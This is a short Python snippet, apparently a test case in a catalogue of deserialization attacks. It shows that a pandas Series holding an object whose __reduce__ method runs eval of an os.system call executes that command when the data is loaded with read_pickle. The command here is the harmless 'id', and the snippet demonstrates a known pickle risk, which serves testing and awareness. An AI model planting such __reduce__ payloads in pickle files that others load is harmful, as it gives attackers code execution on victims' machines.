# Source: https://pandas.pydata.org/docs/reference/api/pandas.read_pickle.html
# Family: pickle-marshal
# What: a DataFrame attribute holding a __reduce__ object round-trips through to_pickle/read_pickle
import io
import pandas as pd

class R:
    def __reduce__(self):
        return (eval, ("__import__('os').system('id')",))

buf = io.BytesIO()
pd.Series([R()]).to_pickle(buf)
buf.seek(0)
pd.read_pickle(buf)
